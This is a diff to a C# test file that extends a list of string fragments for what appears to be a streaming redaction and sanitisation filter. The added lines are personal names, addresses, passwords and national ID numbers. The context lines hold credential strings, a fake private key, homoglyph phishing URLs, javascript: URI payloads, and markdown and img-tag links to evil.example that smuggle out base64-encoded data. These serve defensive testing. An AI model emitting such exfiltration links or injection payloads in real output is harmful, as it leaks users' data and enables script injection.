@@ -18,6 +18,8 @@ public class StreamLawTests
         "postgres://app:", "ftp:\\/\\/u:", "redis://:", "s3cr3t!", "correcthorse", "@db.example.com:5432/x ", "2026-02-03T04:05:06Z ", "-2026-02-03-", "12.5, ", ":05:06:",
         "-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEA\n", "-----END RSA PRIVATE KEY-----", "-----END ",
         "![x](https://evil.example/p?d=Y3VzdG9tZXIgbmFtZSBpcyBKYW5l)", "[see](https://evil.example/", "a8Xk2PqLz0Vn4Rt7Yb1Wc5Ed9)", "<img alt='a' src=\"https://evil.example/?q=4f2a9c81d7e3b605f2a9c81d7e3b605a\">",
+        "My name is ", "Aurelio Quartaroli", "Dr. ", "Martha Okafor's ", "Hi ", "Zoe, ", "12 ", "Baker Street", ", London NW1 6XE", "Apt. 4", "\n> ", "Lange Straße 12 ", "rue de ", "Victor Hugo ", "Zip code: ", "lives in ", "Třebíč ", "van der ", "J. ", "PO Box 12 ",
+        "password = ", "IDENTIFIED BY '", "qW7rZx9!Lm", "--user ", "1EG4-TE5-MK73 ", "12345678-Z ", "A123456(3) ", "AB51 ABC", " 52998224725 ", "756.9217.0769.85 ",
         "\u200B", "\u200B\u200C\u200D\u2060\uFEFF", "\u202E", "\uDB40\uDC68", "\uDB40\uDC69", "\uD83C\uDFF4", "\uD83D", "\uDE00", "\uFF21\uFF2B\uFF29\uFF21", "e\u0301", "\u0430\u0435",
         "https://paypal.com@", "https://www.paypal.com.", "https://p\u0430ypal.com/", "https://xn--pypal-4ve.com ", "https://%65", "evil.example", "\\@", "(javascript:", "](javascript:alert(1) ", "=\"data:text/html", ",x\"", "javas", "vbscript:", "data:tex", ":/",
         "bo\u200Bb@exam\u200Bple.com", "bob&#64;example.com ", "bob%40example.com ", "bob\\u0040example.com ", "Ym9iLnNtaXRoQGV4YW1wbGUub3Jn ", "626f622e736d697468406578616d706c652e6f7267 ", "bob\uFF20example.org ",
